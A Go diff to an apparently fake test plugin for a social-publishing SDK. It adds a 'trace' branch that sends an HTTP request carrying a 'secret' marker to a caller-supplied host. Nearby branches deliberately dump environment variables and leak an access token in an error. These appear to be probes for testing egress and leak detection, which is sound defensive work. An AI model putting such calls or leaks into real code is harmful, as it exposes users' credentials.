@@ -5,6 +5,7 @@ import (
 	"fmt"
 	"log/slog"
 	"net"
+	"net/http"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -137,6 +138,12 @@ func (good) Publish(ctx context.Context, req social.PublishRequest) (social.Step
 	case "environment":
 		receipt.Warnings = os.Environ()
 	case "trace":
+		// Nobody listens there; that the attempt was made is enough.
+		if req, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://"+rest+"/path?secret", nil); err == nil {
+			if res, err := sdk.HTTPClient().Do(req); err == nil {
+				_ = res.Body.Close()
+			}
+		}
 		receipt.Ref.ID = trace.SpanContextFromContext(ctx).TraceID().String()
 	case "garbage":
 		return social.Step{}, &social.Fault{Kind: social.Policy, Key: "good.policy", Message: "\xff\xfe", Upstream: "token " + req.Call.Credential.AccessToken}
